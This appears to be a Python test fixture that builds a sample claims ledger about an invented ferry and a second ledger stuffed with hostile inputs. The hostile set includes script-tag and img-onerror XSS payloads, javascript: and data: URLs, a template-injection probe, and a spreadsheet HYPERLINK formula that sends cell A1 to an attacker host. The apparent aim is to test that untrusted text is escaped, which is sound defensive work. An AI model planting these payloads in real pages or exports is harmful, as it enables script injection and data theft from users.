"""A small ledger made by hand, about an invented ferry; and the same with what an attacker would put into it."""

from __future__ import annotations

import datetime

from sayso.ledger import Ledger
from sayso.posts import Claim, Forecast, Holder, Horizon, Kind, Part, Post, Probability, Thread

FERRY = """The ferry will be late, says Odell

Ruth Odell expects the Brennick ferry to sail by May 2026. "The engine is in the yard," she said.

According to Odell, Jonas Pell believes the fare will double. Pell vowed to publish the timetable in April 2026."""

SCRIPT = "<script>alert('ferry')</script>"
BREAK = "\"><img src=x onerror=alert(1)>'"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"see")'
EVIL = f"""{SCRIPT} {BREAK}

{FORMULA} </script><!-- \u2028 {{{{ 7*7 }}}} said {BREAK} & friends."""


def thread(key: str = "ferry.txt", text: str = FERRY, **said: str | None) -> Thread:
    """An article with one comment."""
    post = Post(key, text, author=said.pop("author", "Nell Osei"), posted="2026-01-10")
    comment = Post(f"{key}#1", text, "comment", key, said.pop("commenter", "gull"), "2026-01-11")
    made = Thread(key, [post, comment], published="2026-01-10", language="en")
    made.url = said.get("url", "https://ferry.example/late")
    made.title, made.site = said.get("title", text.split("\n")[0]), said.get("site", "Brennick Post")
    return made


def claim(of: Thread, words: str, *chain: str, kind: Kind = "prediction", key: str, post: int = 0) -> Claim:
    """A claim on the first place of ``words``; a forecast comes due at the end of May 2026."""
    held_in = of.posts[post]
    start = held_in.text.index(words)
    part = Part.of(held_in.text, [(start, start + len(words))])
    forecast = None
    if kind in ("prediction", "pledge"):
        horizon = Horizon(part.text, part.spans, datetime.date(2026, 1, 10), datetime.date(2026, 5, 31), "by-month")
        forecast = Forecast((), horizon, None, Probability(0.9, 0.8, 0.95, "words"), True)
    return Claim(
        key, of, held_in, part, None, None, "indirect", "attributed", tuple(Holder(name) for name in chain), kind,
        forecast, 0.8,
    )  # fmt: skip


SAIL, FARE, TABLE, ENGINE = "a" * 16, "b" * 16, "c" * 16, "d" * 16


def fill(ledger: Ledger) -> None:
    """Four claims by two people, one of them nested, one resolved, one on a question."""
    of = thread()
    ledger.keep(
        of,
        [
            claim(of, "the Brennick ferry to sail by May 2026", "Ruth Odell", key=SAIL),
            claim(of, "the fare will double", "Ruth Odell", "Jonas Pell", key=FARE),
            claim(of, "to publish the timetable in April 2026", "Jonas Pell", kind="pledge", key=TABLE),
            claim(of, "The engine is in the yard", "Ruth Odell", kind="fact", key=ENGINE),
        ],
    )
    ledger.ask("Will the fare double?", id="fare", topic="ferries")
    ledger.attach("fare", FARE)
    ledger.resolve(TABLE, "kept", evidence=["https://ferry.example/table"], note="It is out.", by="nell")


def fill_evil(ledger: Ledger) -> None:
    """What strangers could have published, in every text that there is."""
    of = thread(
        f"evil{BREAK}.txt",
        EVIL,
        url=f"javascript:alert(1)//{BREAK}",
        title=SCRIPT + BREAK,
        site=SCRIPT,
        author=BREAK,
        commenter=SCRIPT,
    )
    ledger.keep(
        of,
        [
            claim(of, SCRIPT, BREAK, SCRIPT, key="e" * 16),
            claim(of, FORMULA, SCRIPT, kind="pledge", key="f" * 16),
            claim(of, "friends", FORMULA, key="0123456789abcdef", post=1),
        ],
    )
    ledger.ask(SCRIPT, id="evil", topic=BREAK, criteria=SCRIPT, by=BREAK)
    ledger.attach("evil", "e" * 16)
    ledger.resolve("evil", "true", evidence=["javascript:alert(1)", SCRIPT], note=SCRIPT + BREAK, by=SCRIPT)
    ledger.resolve("f" * 16, "broken", evidence=["data:text/html," + SCRIPT], note="</script>" + SCRIPT, by=BREAK)
    ledger.alias(SCRIPT, "<b>bold</b>", by=SCRIPT)
